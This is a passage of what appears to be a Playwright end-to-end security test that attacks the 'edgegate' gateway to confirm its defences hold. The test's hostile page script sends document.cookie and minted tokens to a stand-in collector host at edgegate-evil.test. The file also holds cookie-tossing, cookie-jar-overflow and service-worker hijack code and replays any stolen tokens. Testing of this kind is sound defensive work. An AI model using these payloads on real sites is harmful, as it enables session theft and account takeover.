// An attack test in a real headless Chromium, through edgegate: a logged-in victim opens
// links an attacker crafted, and a hostile ("compromised") workspace page attacks the app API,
// another workspace of the victim and the victim's cookies. Every attack must fail.
//
//   node tests/e2e/attack.mjs --gateway-port N --redis-port N --artifacts DIR
//        [--base-domain edgegate.test] [--gateway-log FILE] [--redis-host 127.0.0.1]
//        [--key-prefix ''] [--invalidate-channel edgegate:invalidate] [--label attack]
//
// The world (written into Redis here, served from this process on ephemeral loopback ports):
//   attacker U (attack-u): session SID_U, workspace A whose content is HOSTILE;
//   victim V (victim-v):   session SID_V, workspace V1 whose content is HOSTILE (a compromised
//                          workspace of the victim's own) and workspace V2 behind a RECORDING
//                          upstream (every request and WebSocket upgrade it receives is kept);
//   a COLLECTOR on another site (collector.edgegate-evil.test) to which hostile pages send
//   everything they could read, with the origin they ran on.
// Tokens for U are minted the real way: POST /api/dev/{A}/ide-token and
// /api/workspaces/{A}/terminal-token with U's session cookie.
//
// Checks (SPEC §2, §4 "Credentials in URLs", §5, §6, §8). Positive controls first: if one
// fails the harness is broken (exit 2), since a broken setup would look like a pass.
//   control-v2-session       the victim's session opens V2; the recorder sees no session cookie
//   control-u-own-ide        U's own bootstrap in U's own browser opens A's IDE (hostile, U's)
//   1-tunnel-url-token       victim opens app/__ide/{A}/?token=<U's dev-ide token>  (also
//   1-tunnel-pct-token         ?%74oken=, /__ide/{a}/ in lower case, and the bare base host)
//   1-tunnel-lowercase-id
//   1-tunnel-base-host
//   2-bootstrap-login-csrf   victim opens U's bootstrap link (no U session in this browser)
//   3-agent-get-url-token    victim opens ws-{a}/agent/ws?token=<U's terminal token> (no upgrade)
//   control-v1-renders       victim opens its own compromised V1 (allowed); its page then tries:
//   4a-mint-v2-tokens          POST app/api/dev/{V2}/ide-token and /terminal-token, credentials
//   4b-websocket-v2            new WebSocket(ws-{v2}/agent/ws) with the victim's cookie
//   4c-cors-read-v2            fetch(ws-{v2}/secret, credentials) against a CORS-reflecting upstream
//   4d-cookie-read             document.cookie; and no credential ever reaches a hostile upstream
//   4e-cookie-toss-bootstrap   V1 tosses session=SID_U on .{base}; victim opens U's bootstrap link
//                              (403: a link starts no bootstrap); then the app's own page
//                              navigates there (-same-origin: 401 ambiguous_credentials)
//   control-v2-after-toss      with the tossed cookie cleared, V2 works again
//   4e-cookie-toss-many-paths  the same with five equal tossed values sent ahead of the victim's
//                              (edgegate reads at most four values of a cookie)
//   4f-iframe-tunnel           V1 frames app/__ide/{A}/?token=…
// Beyond the brief (same verdict rules; listed: false in the result):
//   4g-set-cookie-toss         V1's *response* sets session=SID_U; Domain={base}; HttpOnly
//                              (a server Set-Cookie may replace an HttpOnly cookie; a script
//                              may not), then the victim opens U's bootstrap link
//   4h-script-include-v2       V1 includes <script src=ws-{v2}/app.js>: a no-cors GET carries
//                              no Origin, so the Origin rule does not see it (XSSI)
//   4i-cookie-jar-overflow     V1 floods the .{base} cookie jar until the victim's HttpOnly
//                              session is evicted, then sets session=SID_U: one session, no
//                              ambiguity, then the victim opens U's bootstrap link
//                              (informational for now, not counted: see INFORMATIONAL)
//   4j-own-ide-on-app-origin   informational (not counted): the victim's own IDE of V1 (path
//                              shape) runs V1's content on the app origin, with the victim's
//                              authority; what can it take?
//   4k-service-worker-app-origin  that IDE registers a service worker for scope / (its upstream
//                              sends Service-Worker-Allowed: /); signed out, the victim opens an
//                              app page: the worker must not serve it
// Tokens a hostile page obtained are replayed by the attacker from outside the browser
// (Bearer on the tunnel, ?token= on the agent upgrade) to show what they open.
//
// Exit status: 0 every attack failed (and every control held), 1 an attack succeeded or a
// refusal was not the one specified, 2 the harness broke (a control failed, a timeout, …).
// Artifacts: {label}-result.json (every check: what the browser showed, what the collector,
// the hostile upstreams and the V2 recorder received, what the attacker obtained, the verdict),
// {label}-{check}.png, {label}-console.log.

import { chromium } from 'playwright-core';
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';

const TOTAL_MS = 170_000; // the whole test, whatever happens
const NAV_MS = 15_000;
const QUIET_MS = 2_500; // how long a page that should not render is given to beacon anyway
const PAGE_DONE_MS = 20_000; // a hostile page's whole script
const ACCESS_LOG_FLUSH_MS = 700; // edgegate flushes its access log every 200 ms

// Checks that are reported but never decide the exit status: they show a property of the
// same-site topology the SPEC accepts (§8: the content_domain topology is the strong one).
// 4i: no gateway rule about cookies can tell a session cookie a workspace page planted (after
// evicting the victim's) from one the app set, while workspaces share the app's registrable
// domain; it counts once the e2e config serves workspaces on a content_domain of their own,
// or the bootstrap refuses navigations the app's own page did not start (Sec-Fetch-Site).
// 4j: the path shape serves a workspace on the app origin by design.
const INFORMATIONAL = new Set(['4i-cookie-jar-overflow', '4j-own-ide-on-app-origin']);

function parseArgs(argv) {
  const a = {
    baseDomain: 'edgegate.test', redisHost: '127.0.0.1', keyPrefix: '',
    invalidateChannel: 'edgegate:invalidate', label: 'attack',
  };
  for (let i = 0; i < argv.length; i++) {
    const k = argv[i];
    const v = argv[++i];
    if (!k.startsWith('--') || v === undefined) throw new Error(`bad argument ${k}`);
    a[k.slice(2).replace(/-([a-z])/g, (_, c) => c.toUpperCase())] = v;
  }
  for (const k of ['gatewayPort', 'redisPort', 'artifacts']) {
    if (!a[k]) throw new Error(`missing --${k.replace(/[A-Z]/g, (c) => '-' + c.toLowerCase())}`);
  }
  return a;
}

let args;
try {
  args = parseArgs(process.argv.slice(2));
} catch (e) {
  console.error(`attack: ${e.message}`);
  process.exit(2);
}
const BASE = args.baseDomain;
const PORT = Number(args.gatewayPort);
fs.mkdirSync(args.artifacts, { recursive: true });
const art = (suffix) => path.join(args.artifacts, `${args.label}${suffix}`);

// The world's names. Ids are canonical (upper-case) ULIDs; hosts carry them in lower case.
const U = 'attack-u';
const V = 'victim-v';
const A = '01HZX3M9Q4T8V6W2Y5B7C9D1XA';
const V1 = '01HZX3M9Q4T8V6W2Y5B7C9D1V1';
const V2 = '01HZX3M9Q4T8V6W2Y5B7C9D1V2';
const rand = (n) => crypto.randomBytes(n).toString('hex');
const SID_U = `u-${rand(20)}`;
const SID_V = `v-${rand(20)}`;
const APP_SECRET = `victim-app-cookie-${rand(12)}`; // another app cookie of the victim's
const V2_SECRET = `v2-secret-${rand(12)}`; // what V2's upstream serves its owner
const appHost = `app.${BASE}`;
const appOrigin = `http://${appHost}:${PORT}`;
const baseOrigin = `http://${BASE}:${PORT}`;
const wsOrigin = (id) => `http://ws-${id.toLowerCase()}.${BASE}:${PORT}`;
const APP_ORIGINS = [appOrigin, baseOrigin];

// ---------------------------------------------------------------------------------------------
// Bookkeeping

const consoleLines = [];
const checks = [];
let current = 'setup';
let harnessError = null;
const collectorLog = []; // beacons: {at, check, beacon}
const hostileLog = []; // requests the hostile upstream (A and V1) received
const recorderLog = []; // requests V2's upstream received

function log(line) {
  const l = `[${new Date().toISOString()}] [${current}] ${line}`;
  consoleLines.push(l);
}
function say(line) {
  console.log(`${args.label}: ${line}`);
  log(line);
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const short = (s, n = 300) => (typeof s === 'string' && s.length > n ? `${s.slice(0, n)}…` : s);

class HarnessError extends Error {}
function harness(cond, msg) {
  if (!cond) throw new HarnessError(msg);
}

// Everything is bounded: one watchdog for the whole run.
let finished = false;
const watchdog = setTimeout(() => {
  harnessError = harnessError || new HarnessError(`the whole test took longer than ${TOTAL_MS} ms`);
  finish().finally(() => process.exit(2));
}, TOTAL_MS);

// ---------------------------------------------------------------------------------------------
// Servers: collector, hostile upstream, V2 recorder (all in this process, loopback, port 0)

function headersOf(req) {
  return { ...req.headers };
}

function listen(server) {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve(server.address().port));
  });
}

const collector = http.createServer((req, res) => {
  let body = '';
  req.setEncoding('utf8');
  req.on('data', (c) => { if (body.length < 256 * 1024) body += c; });
  req.on('end', () => {
    if (req.method === 'POST') {
      let beacon;
      try { beacon = JSON.parse(body); } catch (_) { beacon = { raw: short(body, 2000) }; }
      collectorLog.push({ at: new Date().toISOString(), check: current, beacon });
      log(`collector: ${beacon.kind} from ${beacon.origin} (top=${beacon.top})`);
    }
    res.writeHead(204, {
      'access-control-allow-origin': '*',
      'access-control-allow-methods': 'POST',
      'access-control-allow-headers': 'content-type',
    });
    res.end();
  });
});

let COLLECTOR; // http://collector.edgegate-evil.test:PORT
const HOSTILE_MODES = new Set(['probe', 'toss', 'tossmany', 'headertoss', 'overflow', 'iframe', 'sw', 'swpage']);

// Runs in the hostile page (serialized): try everything, beacon everything.
async function hostileScript(C) {
  const send = (kind, data) => {
    const body = JSON.stringify({
      kind, origin: location.origin, href: location.href, top: window === window.top,
      mode: C.mode, data,
    });
    try {
      fetch(`${C.collector}/beacon`, { method: 'POST', mode: 'no-cors', body, keepalive: true })
        .catch(() => { try { navigator.sendBeacon(`${C.collector}/beacon`, body); } catch (_) { /* */ } });
    } catch (_) { /* nothing to do */ }
  };
  const within = (p, ms) => Promise.race([
    p, new Promise((r) => setTimeout(() => r({ timeout: ms }), ms)),
  ]);
  const attempt = async (fn) => { try { return await fn(); } catch (e) { return { error: String(e) }; } };
  send('hello', { cookie: document.cookie, referrer: document.referrer });
  if (C.mode === 'probe') {
    // Mint the victim's tokens for V2 with the victim's cookies (same-origin on the app
    // origin; cross-origin from anywhere else, where CORS hides the answer and the Origin
    // rule must refuse it).
    const mint = (p) => attempt(async () => {
      const r = await fetch(C.app + p, { method: 'POST', credentials: 'include' });
      return { status: r.status, body: (await r.text()).slice(0, 4000) };
    });
    const ide = await within(mint(`/api/dev/${C.V2}/ide-token`), 4000);
    const term = await within(mint(`/api/workspaces/${C.V2}/terminal-token`), 4000);
    send('mint', { ide, term });
    // A WebSocket to V2's agent with the victim's cookie.
    const ws = await within(new Promise((resolve) => {
      let s;
      let opened = false;
      try { s = new WebSocket(`${C.v2ws}/agent/ws`); } catch (e) { resolve({ error: String(e) }); return; }
      s.onopen = () => { opened = true; try { s.send('hostile'); } catch (_) { /* */ } setTimeout(() => s.close(), 300); };
      s.onclose = (e) => resolve({ opened, code: e.code });
      s.onerror = () => {};
    }), 5000);
    send('websocket', ws);
    // A credentialed CORS read of V2 (its upstream reflects the Origin with credentials).
    const cors = await within(attempt(async () => {
      const r = await fetch(`${C.v2}/secret`, { credentials: 'include' });
      return { status: r.status, body: (await r.text()).slice(0, 4000) };
    }), 4000);
    send('cors', cors);
    // V2's script included as a script: a no-cors GET, no Origin header.
    const xssi = await within(new Promise((resolve) => {
      const s = document.createElement('script');
      s.src = `${C.v2}/app.js`;
      s.onload = () => resolve({ loaded: true, secret: window.__V2_SECRET || null });
      s.onerror = () => resolve({ loaded: false });
      document.head.appendChild(s);
    }), 5000);
    send('xssi', xssi);
  } else if (C.mode === 'toss') {
    // The brief's spelling (path=/, which a script may not use to replace an HttpOnly cookie)
    // and the ones that do land: a more specific path is a cookie of its own, sent first.
    const set = [];
    for (const p of ['/', '/api/', '/__ide/']) {
      document.cookie = `session=${C.sidU}; domain=${C.base}; path=${p}`;
      set.push(p);
    }
    send('toss', { set, cookie: document.cookie });
  } else if (C.mode === 'tossmany') {
    // Five equal values on paths longer than the victim's, so the browser sends all of them
    // before the victim's own: a reader that looks at the first few values sees no ambiguity.
    const set = [];
    for (const p of [`/api/dev/${C.A}/ide`, `/api/dev/${C.A}/`, '/api/dev/', '/api/', '/api']) {
      document.cookie = `session=${C.sidU}; domain=${C.base}; path=${p}`;
      set.push(p);
    }
    send('toss', { set, cookie: document.cookie });
  } else if (C.mode === 'sw') {
    // A service worker from the tunnel, for the whole app origin (the upstream says
    // Service-Worker-Allowed: /): it outlives the tunnel, the session and a logout.
    const url = location.pathname.replace(/[^/]*$/, '') + 'sw.js';
    const r = await within(attempt(async () => {
      const reg = await navigator.serviceWorker.register(url, { scope: '/' });
      await navigator.serviceWorker.ready;
      return { registered: true, scope: reg.scope, script: url };
    }), 6000);
    send('sw', r);
  } else if (C.mode === 'overflow') {
    // Push the victim's HttpOnly session out of the jar, then put U's in its place.
    for (let i = 0; i < 400; i++) {
      document.cookie = `junk${i}=${i}; domain=${C.base}; path=/`;
    }
    for (let i = 0; i < 400; i++) {
      document.cookie = `junk${i}=; domain=${C.base}; path=/; max-age=0`;
    }
    document.cookie = `session=${C.sidU}; domain=${C.base}; path=/`;
    send('overflow', { cookie: document.cookie });
  } else if (C.mode === 'iframe' && C.frame) {
    const f = document.createElement('iframe');
    f.src = C.frame;
    f.width = 600;
    f.height = 300;
    document.body.appendChild(f);
    await new Promise((r) => { f.onload = r; setTimeout(r, 5000); });
    await new Promise((r) => setTimeout(r, 1500));
    let readable;
    try { readable = f.contentDocument ? f.contentDocument.body.innerText.slice(0, 500) : null; } catch (e) { readable = `not readable: ${e.name}`; }
    send('iframe', { src: C.frame, readable });
  } else {
    send(C.mode, { cookie: document.cookie });
  }
  send('done', {});
}

function hostilePage(mode, frame) {
  const C = {
    mode, frame, collector: COLLECTOR, app: appOrigin, base: BASE, V2, A,
    v2: wsOrigin(V2), v2ws: wsOrigin(V2).replace(/^http/, 'ws'), sidU: SID_U,
  };
  const json = JSON.stringify(C).replace(/</g, '\\u003c');
  return `<!doctype html><html><head><meta charset="utf-8"><title>hostile workspace</title></head>
<body style="background:#300;color:#fff;font:16px sans-serif">
<h1>HOSTILE WORKSPACE CONTENT</h1><p>running on <b id="o"></b>, mode ${mode}</p>
<script>document.getElementById('o').textContent = location.origin;
(${hostileScript.toString()})(${json});</script></body></html>`;
}

const hostile = http.createServer((req, res) => {
  const u = new URL(req.url, 'http://hostile.invalid');
  hostileLog.push({
    at: new Date().toISOString(), check: current, method: req.method, url: req.url,
    headers: headersOf(req),
  });
  log(`hostile upstream: ${req.method} ${req.headers.host} ${req.url}`);
  let mode = u.searchParams.get('mode') || 'probe';
  if (!HOSTILE_MODES.has(mode)) mode = 'probe';
  req.resume();
  if (u.pathname.endsWith('/sw.js')) {
    // Serves every navigation of its scope with a hostile page that reports where it runs.
    const page = hostilePage('swpage', '');
    res.writeHead(200, {
      'content-type': 'application/javascript', 'cache-control': 'no-store',
      'service-worker-allowed': '/',
    });
    res.end(`const PAGE = ${JSON.stringify(page)};
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.mode !== 'navigate' || new URL(e.request.url).pathname.startsWith('/__ide/')) return;
  e.respondWith(new Response(PAGE, { headers: { 'content-type': 'text/html' } }));
});
`);
    return;
  }
  const headers = { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' };
  if (u.searchParams.get('mode') === 'headertoss') {
    mode = 'headertoss';
    headers['set-cookie'] = [`session=${SID_U}; Domain=${BASE}; Path=/; HttpOnly; SameSite=Lax`];
  }
  res.writeHead(200, headers);
  res.end(hostilePage(mode, u.searchParams.get('frame') || ''));
});
hostile.on('upgrade', (req, socket) => {
  hostileLog.push({
    at: new Date().toISOString(), check: current, method: req.method, url: req.url,
    headers: headersOf(req), upgrade: true,
  });
  socket.destroy();
});

const recorder = http.createServer((req, res) => {
  const u = new URL(req.url, 'http://recorder.invalid');
  recorderLog.push({
    at: new Date().toISOString(), check: current, method: req.method, url: req.url,
    headers: headersOf(req),
  });
  log(`V2 recorder: ${req.method} ${req.headers.host} ${req.url} origin=${req.headers.origin || '-'}`);
  req.resume();
  if (u.pathname === '/app.js') {
    res.writeHead(200, { 'content-type': 'application/javascript', 'cache-control': 'no-store' });
    res.end(`window.__V2_SECRET = ${JSON.stringify(V2_SECRET)};\n`);
    return;
  }
  // A permissive dev server: reflects the Origin with credentials. Only edgegate's Origin
  // rule stands between another origin and this answer.
  const cors = req.headers.origin
    ? { 'access-control-allow-origin': req.headers.origin, 'access-control-allow-credentials': 'true', vary: 'Origin' }
    : {};
  res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store', ...cors });
  res.end(JSON.stringify({ recorder: 'V2', path: u.pathname, secret: V2_SECRET }));
});
recorder.on('upgrade', (req, socket) => {
  recorderLog.push({
    at: new Date().toISOString(), check: current, method: req.method, url: req.url,
    headers: headersOf(req), upgrade: true,
  });
  log(`V2 recorder: UPGRADE ${req.headers.host} ${req.url} origin=${req.headers.origin || '-'}`);
  const key = req.headers['sec-websocket-key'] || '';
  const accept = crypto.createHash('sha1')
    .update(key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
  socket.on('error', () => {});
  socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
    + `Sec-WebSocket-Accept: ${accept}\r\n\r\n`);
  setTimeout(() => socket.destroy(), 2000);
});

// ---------------------------------------------------------------------------------------------
// Redis and the gateway, from outside the browser

function rcli(...a) {
  return execFileSync('redis-cli', ['-h', args.redisHost, '-p', String(args.redisPort), ...a],
    { timeout: 5000, encoding: 'utf8' }).trim();
}

function writeWorld(hostilePort, recorderPort) {
  const now = Math.floor(Date.now() / 1000);
  const k = (s) => `${args.keyPrefix}${s}`;
  const hostileAddr = `127.0.0.1:${hostilePort}`;
  const recorderAddr = `127.0.0.1:${recorderPort}`;
  const records = [
    [k(`session:${SID_U}`), 'user', U, 'expires_at', String(now + 3600)],
    [k(`session:${SID_V}`), 'user', V, 'expires_at', String(now + 3600)],
    [k(`workspace:${A}`), 'backend', hostileAddr, 'owner', U, 'status', 'running'],
    [k(`dev:${A}`), 'target', hostileAddr, 'owner', U],
    [k(`workspace:${V1}`), 'backend', hostileAddr, 'owner', V, 'status', 'running'],
    [k(`dev:${V1}`), 'target', hostileAddr, 'owner', V],
    [k(`workspace:${V2}`), 'backend', recorderAddr, 'owner', V, 'status', 'running'],
    [k(`dev:${V2}`), 'target', recorderAddr, 'owner', V],
  ];
  for (const [key, ...fields] of records) {
    rcli('DEL', key);
    rcli('HSET', key, ...fields);
    rcli('PUBLISH', args.invalidateChannel, key);
    const back = rcli('HGET', key, fields[0]);
    harness(back === fields[1], `redis did not keep ${key}`);
  }
}

// One request to the gateway from node (no browser, no Origin unless given).
function gw(method, pathq, { host = appHost, headers = {}, upgrade = false } = {}) {
  return new Promise((resolve) => {
    const h = { host: `${host}:${PORT}`, ...headers };
    if (upgrade) {
      Object.assign(h, {
        connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13',
        'sec-websocket-key': crypto.randomBytes(16).toString('base64'),
      });
    }
    const req = http.request({
      host: '127.0.0.1', port: PORT, method, path: pathq, headers: h, timeout: 10_000,
    });
    req.on('upgrade', (res, socket) => {
      socket.destroy();
      resolve({ status: res.statusCode, headers: res.headers, body: '' });
    });
    req.on('response', (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { if (body.length < 65536) body += c; });
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body }));
      res.on('error', (e) => resolve({ status: 0, error: String(e), body }));
    });
    req.on('timeout', () => req.destroy(new Error('timed out')));
    req.on('error', (e) => resolve({ status: 0, error: String(e), body: '' }));
    req.end();
  });
}

async function mint(kind, id, sid) {
  const p = kind === 'ide' ? `/api/dev/${id}/ide-token` : `/api/workspaces/${id}/terminal-token`;
  const r = await gw('POST', p, { headers: { cookie: `session=${sid}`, 'content-length': '0' } });
  let j;
  try { j = JSON.parse(r.body); } catch (_) { /* below */ }
  harness(r.status === 200 && j && j.token && j.url,
    `minting a ${kind} token for ${id} with a session failed: ${r.status} ${r.error || ''}${short(r.body)}`);
  return j;
}

function gatewayLogSize() {
  if (!args.gatewayLog) return 0;
  try { return fs.statSync(args.gatewayLog).size; } catch (_) { return 0; }
}
function gatewayLogSince(offset) {
  if (!args.gatewayLog) return null;
  let text = '';
  try {
    const fd = fs.openSync(args.gatewayLog, 'r');
    const size = fs.fstatSync(fd).size;
    const buf = Buffer.alloc(Math.max(0, size - offset));
    fs.readSync(fd, buf, 0, buf.length, offset);
    fs.closeSync(fd);
    text = buf.toString('utf8');
  } catch (_) { return []; }
  const out = [];
  for (const line of text.split('\n')) {
    const t = line.trim();
    if (!t.startsWith('{')) continue;
    try {
      const j = JSON.parse(t);
      if (j && typeof j.path === 'string' && 'status' in j) out.push(j);
    } catch (_) { /* not an access line */ }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// What the attacker got, read from everything the attacker controls

const JWT = /eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;

function jwtClaims(t) {
  try { return JSON.parse(Buffer.from(t.split('.')[1], 'base64url').toString('utf8')); } catch (_) { return null; }
}

// Tokens, cookie values and secrets the attacker holds after a check: in the collector's
// beacons and in the requests the hostile upstream received.
function obtained(w) {
  const got = [];
  const add = (what, via, value) => {
    if (!got.some((g) => g.what === what && g.value === value)) got.push({ what, via, value });
  };
  for (const b of w.collector) {
    const s = JSON.stringify(b.beacon);
    for (const t of s.match(JWT) || []) {
      const c = jwtClaims(t);
      // U's own tokens for A are U's anyway; only what is not U's counts.
      if (c && c.sub === U) continue;
      add(`token ${c ? `${c.type || '?'} for ${c.vmid || c.ws || '?'} of ${c.sub}` : '(unparsed)'}`,
        `beacon ${b.beacon.kind} from ${b.beacon.origin}`, t);
    }
    if (s.includes(SID_V)) add('victim session id', `beacon from ${b.beacon.origin}`, SID_V);
    if (s.includes(APP_SECRET)) add('victim app cookie', `beacon from ${b.beacon.origin}`, APP_SECRET);
    if (s.includes(V2_SECRET)) add('V2 content (secret)', `beacon ${b.beacon.kind} from ${b.beacon.origin}`, V2_SECRET);
    if (/edgegate_ide=/.test(s)) add('an ide cookie', `beacon from ${b.beacon.origin}`, 'edgegate_ide=…');
  }
  for (const r of w.hostile) {
    const h = JSON.stringify(r.headers);
    if (h.includes(SID_V)) add('victim session id', `request to the hostile upstream ${r.url}`, SID_V);
    if (h.includes(APP_SECRET)) add('victim app cookie', `request to the hostile upstream ${r.url}`, APP_SECRET);
    if (/edgegate_ide/.test(h)) add('an ide cookie', `request to the hostile upstream ${r.url}`, 'edgegate_ide=…');
    for (const t of h.match(JWT) || []) {
      const c = jwtClaims(t);
      if (c && c.sub === U) continue;
      add('a token', `request to the hostile upstream ${r.url}`, t);
    }
  }
  return got;
}

// The attacker, outside any browser, uses what was stolen against V2.
async function replay(got) {
  const out = [];
  for (const g of got) {
    if (!g.what.startsWith('token ')) continue;
    const c = jwtClaims(g.value) || {};
    const id = c.vmid || c.ws;
    if (!id) continue;
    if (c.type === 'dev-ide') {
      const r = await gw('GET', `/__ide/${id}/`, { headers: { authorization: `Bearer ${g.value}` } });
      out.push({ token: g.what, request: `GET /__ide/${id}/ with Authorization: Bearer`, status: r.status, body: short(r.body, 200) });
    } else if (c.type === 'terminal') {
      const r = await gw('GET', `/agent/ws?token=${g.value}`, { host: `ws-${id.toLowerCase()}.${BASE}`, upgrade: true });
      out.push({ token: g.what, request: `WebSocket upgrade ws-${id.toLowerCase()}/agent/ws?token=`, status: r.status, body: short(r.body, 200) });
    }
  }
  for (const r of out) log(`attacker replay: ${r.request}: ${r.status}`);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Browser

function launchArgs() {
  const secure = [appOrigin, baseOrigin, wsOrigin(A), wsOrigin(V1), wsOrigin(V2), COLLECTOR];
  return [
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
    '--disable-background-networking',
    '--disable-component-update',
    '--disable-sync',
    `--host-resolver-rules=MAP *.${BASE} 127.0.0.1, MAP ${BASE} 127.0.0.1, MAP *.edgegate-evil.test 127.0.0.1`,
    // In production these origins are https; plain http on loopback stands in for that.
    `--unsafely-treat-insecure-origin-as-secure=${secure.join(',')}`,
  ];
}

const profiles = []; // removed at the end, also when the watchdog ends the run
async function launch(name) {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), `edgegate-e2e-chromium-${name}-`));
  profiles.push(profile);
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    headless: true,
    chromiumSandbox: false,
    viewport: { width: 1200, height: 800 },
    args: launchArgs(),
    timeout: 60_000,
  });
  const page = context.pages()[0] || (await context.newPage());
  page.on('console', (m) => log(`${name} console.${m.type()}: ${short(m.text(), 500)}`));
  page.on('pageerror', (e) => log(`${name} pageerror: ${short(e.message, 500)}`));
  page.on('requestfailed', (r) => log(`${name} requestfailed: ${short(r.url(), 200)} ${r.failure()?.errorText}`));
  page.on('response', (r) => log(`${name} response ${r.status()} ${short(r.url(), 200)}`));
  page.on('websocket', (ws) => log(`${name} websocket ${ws.url()}`));
  return { context, page, profile };
}

// The victim's cookies as the app sets them: the session on .{base}, and another app cookie.
const victimCookies = [
  { name: 'session', value: SID_V, domain: `.${BASE}`, path: '/', httpOnly: true, secure: false, sameSite: 'Lax' },
  { name: 'app_pref', value: APP_SECRET, domain: appHost, path: '/', httpOnly: true, secure: false, sameSite: 'Lax' },
];

async function resetVictim(victim) {
  await victim.page.goto('about:blank', { timeout: NAV_MS }).catch(() => {});
  await victim.context.clearCookies();
  await victim.context.addCookies(victimCookies);
}

async function jar(context) {
  return (await context.cookies()).map((c) => ({
    name: c.name, value: short(c.value, 80), domain: c.domain, path: c.path, httpOnly: c.httpOnly,
  }));
}

// Open `url` in `page` as a typed or followed link does (Sec-Fetch-Site: none).
async function visit(page, url) {
  return visitWith(page, url, () => page.goto(url, { waitUntil: 'load', timeout: NAV_MS }));
}

// Open `url` the way the app does: its own page on the app origin navigates there
// (Sec-Fetch-Site: same-origin). edgegate takes the IDE bootstrap from nothing else.
async function visitFromApp(page, url) {
  await page.goto(`${appOrigin}/`, { waitUntil: 'load', timeout: NAV_MS }).catch(() => {});
  return visitWith(page, url, async () => {
    const [resp] = await Promise.all([
      page.waitForNavigation({ waitUntil: 'load', timeout: NAV_MS }),
      page.evaluate((u) => { window.location.href = u; }, url),
    ]);
    return resp;
  });
}

async function visitWith(page, url, navigate) {
  const shown = { url };
  try {
    const resp = await navigate();
    shown.status = resp ? resp.status() : null;
    if (resp) {
      const chain = [];
      for (let r = resp.request().redirectedFrom(); r; r = r.redirectedFrom()) {
        const rr = await r.response().catch(() => null);
        chain.unshift({ url: short(r.url(), 200), status: rr ? rr.status() : null });
      }
      if (chain.length) shown.redirects = chain;
      const ct = resp.headers()['content-type'] || '';
      if (ct.includes('json')) {
        try { shown.json = JSON.parse(await resp.text()); } catch (_) { /* not JSON after all */ }
      } else if (ct.startsWith('text/html') && resp.headers()['x-request-id'] && resp.status() >= 400) {
        // edgegate's own page for a refused navigation: its error code and request id are
        // the two <code> elements of the built-in page.
        const codes = await bounded(page.evaluate(() => [...document.querySelectorAll('code')].map((c) => c.textContent)), 5000, []);
        shown.page = { code: codes[0] ?? null, requestId: codes[1] ?? null, csp: resp.headers()['content-security-policy'] ?? null };
      }
    }
  } catch (e) {
    shown.error = short(String(e.message || e).split('\n')[0], 300);
  }
  shown.finalUrl = page.url();
  shown.title = await bounded(page.title(), 5000, null);
  shown.text = short(await bounded(page.evaluate(() => (document.body ? document.body.innerText : '')), 5000, null), 300);
  return shown;
}

async function shot(page, name) {
  const file = art(`-${name}.png`);
  try {
    await page.screenshot({ path: file, timeout: 10_000 });
    return path.basename(file);
  } catch (e) {
    log(`screenshot ${name} failed: ${e.message}`);
    return null;
  }
}

// A browser call that must not hang the test: its value, or `fallback` after `ms`.
function bounded(p, ms, fallback) {
  let timer;
  return Promise.race([
    Promise.resolve(p).catch(() => fallback),
    new Promise((r) => { timer = setTimeout(() => r(fallback), ms); }),
  ]).finally(() => clearTimeout(timer));
}

async function waitFor(pred, ms) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (pred()) return true;
    await sleep(100);
  }
  return pred();
}

// ---------------------------------------------------------------------------------------------
// Checks

function begin(name) {
  current = name;
  say(`--- ${name}`);
  return {
    name, collector: collectorLog.length, hostile: hostileLog.length, recorder: recorderLog.length,
    gwlog: gatewayLogSize(),
  };
}

function windowOf(mark) {
  return {
    collector: collectorLog.slice(mark.collector),
    hostile: hostileLog.slice(mark.hostile),
    recorder: recorderLog.slice(mark.recorder),
    gateway: gatewayLogSince(mark.gwlog),
  };
}

// kind: 'control' | 'attack'. findings: what the attacker achieved (attack succeeded);
// deviations: the attack failed but not with the refusal the contract specifies; broken: a
// control or a precondition did not hold.
// obtainedFrom: judge what the attacker holds from this mark on (default: the whole check).
async function record(mark, { kind, listed = true, description, expected, shown, page, extra = {}, findings = [], deviations = [], broken = [], obtainedFrom = mark }) {
  // Late beacons are attributed to this check: give the browser a moment to send them.
  await sleep(200);
  const w = windowOf(mark);
  const got = kind === 'attack' ? obtained(windowOf(obtainedFrom)) : [];
  const replays = got.length ? await replay(got) : [];
  if (got.length) findings.push(`the attacker obtained: ${got.map((g) => g.what).join('; ')}`);
  const informational = INFORMATIONAL.has(mark.name);
  let verdict;
  if (broken.length) verdict = 'HARNESS BROKEN';
  else if (kind === 'control') verdict = 'control held';
  else if (findings.length) verdict = informational ? 'informational: the page got through' : 'ATTACK SUCCEEDED';
  else if (deviations.length) verdict = informational ? 'informational' : 'attack failed, but not as specified';
  else verdict = 'attack failed';
  const screenshot = page ? await shot(page, mark.name) : null;
  const c = {
    name: mark.name, kind, listed, informational, description, expected, verdict,
    findings, deviations, broken, shown, screenshot,
    collector: w.collector.map((b) => ({ at: b.at, ...b.beacon })),
    hostileUpstream: w.hostile.map((r) => ({ at: r.at, method: r.method, url: r.url, upgrade: !!r.upgrade, host: r.headers.host, origin: r.headers.origin, cookie: r.headers.cookie, 'x-edgegate-user': r.headers['x-edgegate-user'] })),
